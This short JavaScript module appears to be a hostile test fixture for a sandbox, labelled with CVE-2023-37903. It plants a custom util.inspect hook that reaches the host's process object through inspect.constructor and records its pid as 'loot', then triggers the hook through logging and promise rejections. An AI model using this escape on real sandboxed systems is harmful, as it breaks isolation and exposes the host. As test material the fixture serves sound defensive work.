// @ts-nocheck
// biome-ignore-all lint: hostile code
// CVE-2023-37903: util.inspect of the outside calls a method of one's own with its own function.
export const reconcile = async (object, context) => {
  let loot
  const bait = {
    [Symbol.for('nodejs.util.inspect.custom')]: (_depth, _options, inspect) => {
      try {
        loot = inspect.constructor('return process')().pid
      } catch {}
    },
  }
  console.log(bait)
  context.log.info('bait', bait)
  context.log.error(bait)
  await Promise.reject(bait).catch(() => {})
  void Promise.reject(bait)
  await new Promise((resolve) => setTimeout(resolve, 20))
  return { loot }
}
